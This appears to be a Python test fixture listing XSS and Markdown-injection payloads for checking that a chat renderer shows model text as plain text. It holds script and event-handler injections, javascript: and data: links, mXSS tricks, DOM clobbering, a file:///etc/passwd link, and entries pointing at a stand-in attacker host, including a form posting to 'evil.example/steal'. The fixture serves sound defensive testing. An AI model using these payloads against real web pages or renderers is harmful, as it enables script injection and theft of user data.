"""Model text that tries to become markup: what tests/browser/test_element.py renders through
web/markdown.mjs and <intab-chat>. Every payload that would run calls alert() (the test fails on
any dialog) or sets window.__pwned.

Drawn from the usual families: OWASP's XSS filter evasion cheat sheet, DOMPurify's own mXSS
cases, Markdown-specific link tricks (markdown-it's validateLink is one of two gates), SVG and
MathML namespaces, forms and DOM clobbering, CSS that could restyle or overlay the host, and
HTML inside code blocks (which must show as text).
"""
from __future__ import annotations

CORPUS: list[tuple[str, str]] = [
    # raw HTML (markdown-it's html: false: it must show as text)
    ("script", "<script>alert(1)</script>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-in-paragraph", "Hello <script>window.__pwned=1</script> world"),
    ("img-onerror", '<img src=x onerror="alert(1)">'),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-animate", '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'),
    ("svg-a-xlink", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>'),
    ("svg-foreignobject", "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>"),
    ("math-href", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    ("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("iframe", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    ("object", '<object data="javascript:alert(1)"></object>'),
    ("embed", '<embed src="data:text/html,<script>alert(1)</script>">'),
    ("form", '<form action="https://evil.example/steal"><input name=q autofocus onfocus=alert(1)><button>Go</button></form>'),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>x</details>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("video-source", "<video><source onerror=alert(1)></video>"),
    ("marquee", "<marquee onstart=alert(1)>x</marquee>"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base", '<base href="https://evil.example/">[a](x)'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("template", "<template><img src=x onerror=alert(1)></template>"),
    ("dom-clobbering", '<form id="error"><input name="hidden"></form><img name="getElementById">'),
    ("custom-element", "<intab-chat onclick=alert(1)></intab-chat><x-y onclick=alert(1)>z</x-y>"),
    ("html-comment", "<!-- <img src=x onerror=alert(1)> -->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("entity-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("uppercase", "<SCRIPT>alert(1)</SCRIPT><IMG SRC=x ONERROR=alert(1)>"),
    ("null-byte", "<scr\u0000ipt>alert(1)</scr\u0000ipt>"),
    ("html-block-lines", "<div>\n\n<img src=x onerror=alert(1)>\n\n</div>"),
    # CSS: restyling or overlaying the host
    ("style-element", "<style>body{display:none} *{background:url(https://evil.example/)}</style>"),
    ("style-attribute", '<p style="position:fixed;inset:0;background:red">overlay</p>'),
    ("table-alignment", "| left | right | center |\n|:---|---:|:---:|\n| 1 | 2 | 3 |"),
    ("class-fence", "```msg user error\nnot a message\n```"),
    ("class-fence-long", "```" + "a" * 80 + "\ncode\n```"),
    # links: only http(s) and mailto become links
    ("js-link", "[click](javascript:alert(1))"),
    ("js-link-upper", "[click](JAVASCRIPT:alert(1))"),
    ("js-link-entity", "[click](jav&#x61;script:alert(1))"),
    ("js-link-entity-colon", "[click](javascript&colon;alert(1))"),
    ("js-link-tab", "[click](java\tscript:alert(1))"),
    ("js-link-space", "[click]( javascript:alert(1))"),
    ("js-link-percent", "[click](javascript%3Aalert(1))"),
    ("js-autolink", "<javascript:alert(1)>"),
    ("js-reference", "[click][x]\n\n[x]: javascript:alert(1)"),
    ("js-title", '[click](https://example.com "x\\" onmouseover=\\"alert(1)")'),
    ("vbscript-link", "[click](vbscript:msgbox(1))"),
    ("data-link", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("data-link-svg", "[click](data:image/svg+xml,<svg onload=alert(1)>)"),
    ("file-link", "[click](file:///etc/passwd)"),
    ("relative-link", "[home](/) [up](../secret) [frag](#error)"),
    ("protocol-relative", "[click](//evil.example/x)"),
    ("image", "![alt text](https://evil.example/track.png)"),
    ("image-js", '![x](javascript:alert(1))'),
    ("image-onerror", '![x" onerror="alert(1)](x)'),
    ("good-links", "[site](https://example.com/a?b=1&c=2) <https://example.org> mail [me](mailto:a@example.com) www.example.net https://example.com/x"),
    ("linkify-fuzzy", "see script.py, notes.md and example.com"),
    # HTML inside code: shown as text
    ("code-inline-html", "`<img src=x onerror=alert(1)>` and `<script>alert(1)</script>`"),
    ("code-fence-html", "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```"),
    ("code-indented-html", "    <iframe src=javascript:alert(1)></iframe>"),
    ("code-fence-unclosed", "```js\ndocument.write('<script>alert(1)<\\/script>')"),
    # Markdown structures around payloads
    ("list-payload", "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))\n  1. <svg onload=alert(1)>"),
    ("table-payload", "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |"),
    ("blockquote-payload", "> <iframe src=javascript:alert(1)>\n> > [x](javascript:alert(1))"),
    ("heading-payload", "# <img src=x onerror=alert(1)>\nSetext <b onclick=alert(1)>\n==="),
    ("emphasis-payload", "**<img src=x onerror=alert(1)>** _[x](javascript:alert(1))_ ~~<svg onload=alert(1)>~~"),
    ("ordered-start", "7. seven\n8. eight"),
    ("nested-deep", ">" * 60 + " deep " + "- " * 40 + "x"),
    ("huge-link-text", "[" + "a" * 2000 + "](https://example.com)"),
]

# Substrings that must show as text (model text never becomes markup, and nothing is lost).
SHOWN_AS_TEXT = {
    "script": "<script>alert(1)</script>",
    "img-onerror": '<img src=x onerror="alert(1)">',
    "style-attribute": '<p style="position:fixed;inset:0;background:red">overlay</p>',
    "code-fence-html": "<script>alert(1)</script>\n<img src=x onerror=alert(1)>",
    "code-inline-html": "<img src=x onerror=alert(1)>",
    "js-link": "[click](javascript:alert(1))",
    "relative-link": "[home](/)",
    "image": "image: alt text",
}
